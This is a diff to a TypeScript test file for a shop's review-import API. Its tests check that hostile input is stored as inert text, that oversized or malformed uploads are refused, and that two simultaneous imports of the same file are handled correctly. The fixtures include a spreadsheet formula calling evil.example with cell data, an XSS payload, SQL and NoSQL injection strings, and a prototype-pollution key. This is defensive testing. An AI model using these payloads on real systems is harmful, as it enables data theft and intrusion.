@@ -20,7 +20,7 @@ async function bring(shop: TestShop, lines: object[], more: object = {}) {
 const check = async (shop: TestShop, lines: object[]) => (await shop.owner('POST', `${path}/check`, { lines })).body.outcomes
 
 async function reviewsOf(shop: TestShop): Promise<any[]> {
-  const query = { sort: [{ fieldName: 'content.rating', order: 'ASC' }] }
+  const query = { cursorPaging: { limit: 100 }, sort: [{ fieldName: 'content.rating', order: 'ASC' }] }
   return (await shop.owner('POST', '/reviews/v1/reviews/query', { query, returnPrivateReviews: true })).body.reviews
 }
 
@@ -150,4 +150,67 @@ test('a file is sent in parts; undo keeps what somebody changed since', async ()
   expect(await reviewsOf(shop)).toMatchObject([{ id: answered.id }])
   const { body } = await shop.owner('POST', '/stoa/v1/reviews/rating-summaries', { namespace: 'stores', entityIds: [product.id] })
   expect(body.summaries).toMatchObject([{ count: 1, received: 1 }])
+})
+
+test('hostile lines are texts and nothing else, and too many of them are refused', async () => {
+  const shop = await aShop(server)
+  const product = await aProduct(shop)
+  const hostile = [
+    '=HYPERLINK("https://evil.example?x="&A1)',
+    '<img src=x onerror=alert(1)>',
+    "'); drop table review; --",
+    '\u202Ereversed\u2066',
+    '\u00FF\u00FEd\u00C3\u00A4\uFFFD',
+    '{"$ne": null}',
+    '__proto__',
+  ]
+  const lines = hostile.map((text, at) => line(product, { title: text, author: text, email: text, externalId: `${at}${text}` }))
+  expect((await bring(shop, lines)).reviewImport).toMatchObject({ added: hostile.length, refused: 0 })
+  expect((await reviewsOf(shop)).map(({ content }) => content.title).toSorted()).toEqual(hostile.toSorted())
+
+  const send = (body: object) => shop.owner('POST', path, { fileName: 'reviews.csv', lines: [], ...body })
+  const wide = { ...line(product), ...Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`column${at}`, 'x'])) }
+  const wrong: object[] = [
+    { lines: Array.from({ length: 501 }, () => line(product)) },
+    { lines: [line(product, { body: 'x'.repeat(10_001) })] },
+    { lines: [line(product, { title: 'with \0 in it' })] },
+    { lines: [line(product, { title: '\uD800' })] },
+    { lines: [line(product, { rating: { toString: '5' } })] },
+    { lines: [[]] },
+    { lines: ['product,rating'] },
+    { lines: 'product,rating' },
+    { fileName: 'x'.repeat(201) },
+    { fileName: '' },
+    { source: 'OTHER' },
+    { importId: 'x' },
+  ]
+  const answers: unknown[] = []
+  for (const body of wrong) answers.push((await send(body)).status)
+  expect(answers).toEqual(wrong.map(() => 400))
+  // Columns that nobody asked for are nobody's.
+  expect([200, 400]).toContain((await send({ lines: [wide], start: true })).status)
+  await server.app.drain()
+  expect((await reviewsOf(shop)).length).toBeLessThanOrEqual(hostile.length + 1)
+})
+
+test('two imports of one file at once add its reviews once, and each is undone once', async () => {
+  const shop = await aShop(server)
+  const product = await aProduct(shop)
+  const lines = Array.from({ length: 120 }, (_, at) => line(product, { externalId: `r${at}` }))
+  const start = () => shop.owner('POST', path, { fileName: 'reviews.csv', lines, start: true })
+  const both = await Promise.all([start(), start()])
+  await server.app.drain()
+  const imports = (await shop.owner('GET', path)).body.imports
+  expect(imports.map(({ added, unchanged }: any) => [added, unchanged]).toSorted()).toEqual([
+    [0, 120],
+    [120, 0],
+  ])
+  const undo = (id: string) => shop.owner('POST', `${path}/${id}/undo`, {})
+  const ids = both.map(({ body }) => body.reviewImport.id)
+  const statuses = (await Promise.all([...ids, ...ids].map(undo))).map(({ status }) => status)
+  expect(statuses.toSorted()).toEqual([200, 200, 428, 428])
+  await server.app.drain()
+  expect(await reviewsOf(shop)).toEqual([])
+  const { body } = await shop.owner('POST', '/stoa/v1/reviews/rating-summaries', { namespace: 'stores', entityIds: [product.id] })
+  expect(body.summaries).toMatchObject([{ count: 0, received: 0 }])
 })
